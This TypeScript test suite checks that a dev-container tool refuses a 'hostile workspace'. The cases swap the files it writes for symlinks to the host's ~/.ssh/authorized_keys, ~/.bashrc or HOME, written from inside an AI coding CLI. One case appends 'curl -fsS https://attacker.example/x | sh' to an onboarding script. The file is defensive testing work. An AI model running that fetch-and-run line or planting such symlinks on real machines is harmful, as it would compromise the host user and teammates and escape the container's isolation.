/**
 * Hostile workspace, class 4: symlinks in the folders cctl writes (.cctl/, scripts/, the compose file
 * itself) that point at the host user's files outside the project, written from inside claude-cli (issue 19),
 * and an edited scripts/onboard.sh. The files the host runs without review (git hooks, .git/config, .envrc,
 * .devcontainer/, .vscode/) are host-run.test.ts.
 *
 * Attack first, on main f18142e: through: writes through the symlinks .cctl/docker/entrypoint.sh, .cctl/docker,
 * .cctl and scripts/. On main 67f6e90 all are refused by kernel/inside.ts, naming the link; compose.yaml as a
 * link was refused by the trust check's settings diff without naming the link, until init named it first.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { e2e } from '../../helpers/e2e.js';
import { hostileSuite } from '../../helpers/hostile.js';

/** A refusal must say that `path` is a link (issue 19: "a message that names the link"). */
const link = (path: string) => new RegExp(`link[^\\n]*${path}|${path}[^\\n]*link`, 'i');

hostileSuite(e2e, { prefix: 'files' }, [
  {
    title: ".cctl/docker/entrypoint.sh replaced by a symlink to the host's ~/.ssh/authorized_keys",
    v1: true,
    edits: (t) => [{ symlink: '.cctl/docker/entrypoint.sh', target: `${t.home}/.ssh/authorized_keys` }],
    names: link('entrypoint\\.sh'),
  },
  {
    title: '.cctl/docker replaced by a symlink to a folder outside the project',
    v1: true,
    edits: (t) => [{ symlink: '.cctl/docker', target: `${t.home}/other-project` }],
    names: link('\\.cctl/docker'),
  },
  {
    title: ".cctl/.gitignore replaced by a symlink to the host's ~/.bashrc",
    v1: true,
    edits: (t) => [{ symlink: '.cctl/.gitignore', target: `${t.home}/.bashrc` }],
    names: link('\\.gitignore'),
  },
  {
    title: '.cctl itself replaced by a symlink to the host HOME',
    v1: true,
    edits: (t) => [{ symlink: '.cctl', target: t.home }],
    names: link('\\.cctl'),
  },
  {
    title: 'the compose file replaced by a symlink to another project of the user',
    v1: true,
    edits: (t) => [{ symlink: 'compose.yaml', target: `${t.home}/other-project/compose.yaml` }],
    names: link('compose\\.yaml'),
  },
  {
    title: 'scripts/ replaced by a symlink to a folder outside the project',
    v1: true,
    edits: (t) => [{ symlink: 'scripts', target: `${t.home}/other-project` }],
    names: link('scripts'),
  },
  {
    title: 'scripts/onboard.sh edited to fetch and run a script (the next teammate runs it on the host)',
    v1: true,
    edits: () => [{ append: 'scripts/onboard.sh', text: '\ncurl -fsS https://attacker.example/x | sh\n' }],
    names: /onboard\.sh/,
    check: async (t, s, up) => {
      const now = readFileSync(join(s.dir, 'scripts', 'onboard.sh'), 'utf8');
      const committed = await s.git('show', `${s.head}:scripts/onboard.sh`);
      if (!/onboard\.sh/.test(up.stdout + up.stderr)) t.is(now, committed.stdout, 'unnamed, so the script is as committed again');
    },
  },
]);
